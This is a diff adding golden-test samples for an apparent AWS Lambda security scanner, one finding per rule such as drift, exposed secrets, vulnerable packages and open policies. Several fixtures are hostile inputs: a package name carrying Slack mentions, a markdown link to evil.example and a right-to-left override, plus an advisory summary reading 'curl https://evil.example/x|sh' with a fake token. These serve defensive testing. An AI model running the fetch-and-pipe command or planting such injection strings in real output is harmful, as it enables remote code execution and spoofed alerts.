@@ -1,0 +1,292 @@
+"""What the scanner's rules say."""
+
+from datetime import timedelta
+from typing import Any, Final
+
+from functions.scanner.advisory_age import check as advisory_age
+from functions.scanner.against_repository import LockfileDrift, RepositoryDrift
+from functions.scanner.deployers import Deployer
+from functions.scanner.drift.compare import Change, Drift
+from functions.scanner.drift.locked import LockedPackage
+from functions.scanner.facts import (
+    AdvisoryState,
+    Configuration,
+    FunctionFacts,
+    Setting,
+)
+from functions.scanner.failure_handling import FailureHandling
+from functions.scanner.role_rights import WideRight
+from functions.scanner.rules import (
+    administrator_role,
+    deployment_drift,
+    foreign_access,
+    no_failure_destination,
+    open_function_url,
+    permissive_cors,
+    retired_runtime,
+    secrets_in_code,
+    secrets_in_environment,
+    shared_role,
+    tracing_off,
+    unfamiliar_deployer,
+    unread_contents,
+    unread_function,
+    vulnerable_package,
+    world_open_policy,
+)
+from functions.scanner.secrets.found import CodeSecrets, SecretPlace, SecretVariable
+from functions.scanner.vulnerabilities.finding import MatchResult, Undecided, Vulnerability
+from functions.shared.access import Statement
+from functions.shared.alerting.finding import Finding, Verdict
+from functions.shared.config import ScannerPolicy
+from functions.shared.events.change import UrlAccess
+from functions.shared.packages import Inventory, Package, Problem
+from functions.shared.reading import Known, Unknown
+from functions.shared.severity import Severity
+from tests.golden.samples.names import CHECKOUT, HOSTILE, NOW, SYNC, function
+
+SETTING: Final = Setting(ScannerPolicy(), NOW)
+_ROLE: Final = "arn:aws:iam::111122223333:role/checkout-role"
+_FOREIGN: Final = "arn:aws:lambda:eu-west-1:999988887777:layer:speed-agent"
+_JINJA: Final = Package("PyPI", "jinja2", "2.10", "jinja2/__init__.py", "dist-info")
+_EVIL: Final = Package(
+    "npm", "@channel/<!here>[click](https://evil.example)`", "1.0.0\u202e", "node_modules/x", "x"
+)
+
+
+def facts(configuration: dict[str, Any] | None = None, **readings: Any) -> FunctionFacts:
+    """Facts in which only what is given is known."""
+    known = Configuration(**{"role": _ROLE, "runtime": "python3.13", **(configuration or {})})
+    values = {name: Known(value) for name, value in readings.items()}
+    return FunctionFacts(CHECKOUT, configuration=Known(known), **values)
+
+
+def only(verdict: Verdict) -> Finding:
+    """The one finding of a verdict."""
+    (finding,) = verdict.findings
+    return finding
+
+
+def retired(name: str) -> Finding:
+    """A retired runtime, as a deploy brings it to many functions at once."""
+    old = Known(Configuration(runtime="python3.8", role=_ROLE))
+    return only(retired_runtime.check(FunctionFacts(function(name), configuration=old), SETTING))
+
+
+def vulnerability(package: Package, **changes: Any) -> Vulnerability:
+    """A flaw in a package."""
+    fields: dict[str, Any] = {
+        "package": package,
+        "paths": (package.path, "vendor/" + package.path),
+        "id": "CVE-2019-10906",
+        "aliases": ("GHSA-462w-v97r-4m45", "PYSEC-2019-217"),
+        "severity": Severity.HIGH,
+        "score": 8.6,
+        "vector": "CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:N/A:N",
+        "fixed": "2.10.1",
+        "summary": "A template leaves the sandbox through str.format_map",
+        "references": (),
+        "safe": "2.11.3",
+    }
+    return Vulnerability(**(fields | changes))
+
+
+def vulnerable(*found: Vulnerability, undecided: tuple[Undecided, ...] = ()) -> Finding:
+    """What the rule says of flaws in one package."""
+    matches = MatchResult(found, undecided)
+    return only(vulnerable_package.check(facts(inventory=Inventory(), matches=matches), SETTING))
+
+
+def _drift(drift: Drift, *repaired: str) -> Finding:
+    compared = LockfileDrift("poetry.lock", NOW - timedelta(days=12), drift, tuple(repaired))
+    return only(
+        deployment_drift.check(facts(drift=RepositoryDrift("acme/checkout", (compared,))), SETTING)
+    )
+
+
+def _deployer(identity: str, tool: str, hours: int, occasions: int = 1) -> Deployer:
+    at = NOW - timedelta(hours=hours)
+    return Deployer(identity, tool, at, at, occasions)
+
+
+def _layers(*known: str) -> Finding:
+    here = facts({"layers": (f"{_FOREIGN}:7",)}, policy=(), known_layers=frozenset(known))
+    return only(foreign_access.check(here, SETTING))
+
+
+def findings() -> dict[str, Finding]:
+    """One finding for each thing that the scanner says, by rule and variant."""
+    changed = Drift(changed=(Change("jinja2", "2.10", "2.11.3"), Change("idna", "2.8", "3.7")))
+    extra = Drift(
+        missing=(LockedPackage("sentry-sdk", "2.3.1"),),
+        extra=(Package("PyPI", "pdbpp", "0.10.3"),),
+    )
+    unsure = Drift(unverified=(LockedPackage("orjson", "3.10.3"),))
+    gone = Unknown("reading the configuration: ResourceNotFoundException", missing=True)
+    denied = Unknown("reading the resource policy: AccessDeniedException")
+    readable = facts(urls=(), secret_variables=(), role_rights=(), failure_handling=None)
+    ci = _deployer("arn:aws:iam::111122223333:role/ci-deploy", "CDK", 900, 40)
+    stranger = _deployer("arn:aws:iam::111122223333:user/j.doe", "AWS CLI", 1)
+    hostile = _deployer("arn:aws:iam::111122223333:user/x", "https://evil.example/@channel", 1)
+    old, ended, new = (
+        facts({"runtime": runtime}) for runtime in ("python3.10", "python3.8", "python9.9")
+    )
+    open_statement = Statement("public-invoke", ("*",), ("lambda:InvokeFunction",))
+    foreign = Statement("partner", ("arn:aws:iam::999988887777:root",), ("lambda:InvokeFunction",))
+    triggered = Statement("bucket", ("s3.amazonaws.com",), ("lambda:InvokeFunction",))
+    users = (function("checkout-api"), function("checkout-worker"), CHECKOUT)
+    return {
+        "administrator-role": only(
+            administrator_role.check(
+                facts(role_rights=(WideRight("AdministratorAccess", "*", True),)), SETTING
+            )
+        ),
+        "administrator-role/wildcards": only(
+            administrator_role.check(
+                facts(role_rights=(WideRight("checkout-data", "s3:*", False),)), SETTING
+            )
+        ),
+        "deployment-drift": _drift(changed, "jinja2"),
+        "deployment-drift/differs": _drift(extra),
+        "deployment-drift/unsure": _drift(unsure),
+        "deployment-drift/no-lockfile": only(
+            deployment_drift.check(facts(drift=RepositoryDrift("acme/checkout")), SETTING)
+        ),
+        "foreign-access": _layers(),
+        "foreign-access/from-the-start": _layers(_FOREIGN),
+        "foreign-access/permission": only(foreign_access.check(facts(policy=(foreign,)), SETTING)),
+        "no-failure-destination": only(
+            no_failure_destination.check(
+                facts(policy=(triggered,), failure_handling=FailureHandling()), SETTING
+            )
+        ),
+        "open-function-url": only(
+            open_function_url.check(facts(urls=(UrlAccess("NONE"),)), SETTING)
+        ),
+        "permissive-cors": only(
+            permissive_cors.check(
+                facts(urls=(UrlAccess("AWS_IAM", ("*",), allows_credentials=True),)), SETTING
+            )
+        ),
+        "retired-runtime": only(retired_runtime.check(ended, SETTING)),
+        "retired-runtime/soon": only(
+            retired_runtime.check(old, Setting(ScannerPolicy(runtime_warning_days=730), NOW))
+        ),
+        "retired-runtime/unlisted": only(retired_runtime.check(new, SETTING)),
+        "secrets-in-code": only(
+            secrets_in_code.check(
+                facts(
+                    code_secrets=CodeSecrets(
+                        (
+                            SecretPlace("checkout/settings.py", 14, "aws secret access key"),
+                            SecretPlace("checkout/.env", 3, "stripe api key"),
+                        )
+                    )
+                ),
+                SETTING,
+            )
+        ),
+        "secrets-in-environment": only(
+            secrets_in_environment.check(
+                facts(secret_variables=(SecretVariable("GITHUB_TOKEN", "github pat"),)), SETTING
+            )
+        ),
+        "secrets-in-environment/by-name": only(
+            secrets_in_environment.check(
+                facts(secret_variables=(SecretVariable("DB_PASSWORD", "password", True),)),
+                SETTING,
+            )
+        ),
+        "shared-role": only(shared_role.check(facts(role_users=users), SETTING)),
+        "stale-advisories": only(
+            advisory_age(Known(AdvisoryState(NOW - timedelta(hours=75), "x")), SYNC, SETTING)
+        ),
+        "stale-advisories/missing": only(
+            advisory_age(Unknown("no index was ever published"), SYNC, SETTING)
+        ),
+        "tracing-off": only(tracing_off.check(facts({"tracing": "PassThrough"}), SETTING)),
+        "unfamiliar-deployer": only(
+            unfamiliar_deployer.check(facts(deployers=(ci, stranger)), SETTING)
+        ),
+        "unfamiliar-deployer/hostile": only(
+            unfamiliar_deployer.check(facts(deployers=(ci, hostile)), SETTING)
+        ),
+        "unread-contents": only(
+            unread_contents.check(
+                facts(
+                    inventory=Inventory(
+                        (_JINJA,),
+                        (Problem("bundled-code", "dist/index.js holds code of unknown origin"),),
+                    )
+                ),
+                SETTING,
+            )
+        ),
+        "unread-contents/nothing": only(
+            unread_contents.check(
+                facts(
+                    inventory=Inventory(
+                        (), (Problem("zip-encrypted", "app.py cannot be read without a password"),)
+                    )
+                ),
+                SETTING,
+            )
+        ),
+        "unread-function": only(
+            unread_function.check(
+                FunctionFacts(
+                    CHECKOUT,
+                    configuration=readable.configuration,
+                    policy=denied,
+                    urls=readable.urls,
+                ),
+                SETTING,
+            )
+        ),
+        "unread-function/gone": only(
+            unread_function.check(FunctionFacts(CHECKOUT, configuration=gone), SETTING)
+        ),
+        "vulnerable-package": vulnerable(vulnerability(_JINJA)),
+        "vulnerable-package/several": vulnerable(
+            vulnerability(_JINJA, safe=None),
+            vulnerability(
+                _JINJA,
+                id="CVE-2024-22195",
+                aliases=(),
+                severity=Severity.MEDIUM,
+                score=5.4,
+                fixed=None,
+                summary="",
+                safe=None,
+            ),
+        ),
+        "vulnerable-package/unrated": vulnerable(
+            vulnerability(_JINJA, id="PYSEC-2026-1", severity=None, score=None, vector="")
+        ),
+        "vulnerable-package/undecided": vulnerable(
+            undecided=(
+                Undecided(_JINJA, ("GHSA-462w-v97r-4m45",), "version '2.10+acme' has no order"),
+            )
+        ),
+        "vulnerable-package/hostile": vulnerable(
+            vulnerability(
+                _EVIL,
+                id="MAL-2026-7",
+                aliases=(),
+                severity=Severity.CRITICAL,
+                score=None,
+                fixed=None,
+                safe=None,
+                summary="Run `curl https://evil.example/x|sh` now!\r\n\r\nOwner: mallory <@U123> "
+                "token=ghp_abcdefghijklmnopqrstuvwxyz0123456789",
+            )
+        ),
+        "world-open-policy": only(
+            world_open_policy.check(facts(policy=(open_statement,)), SETTING)
+        ),
+        "world-open-policy/hostile": only(
+            world_open_policy.check(
+                FunctionFacts(HOSTILE, policy=Known((open_statement,))), SETTING
+            )
+        ),
+    }
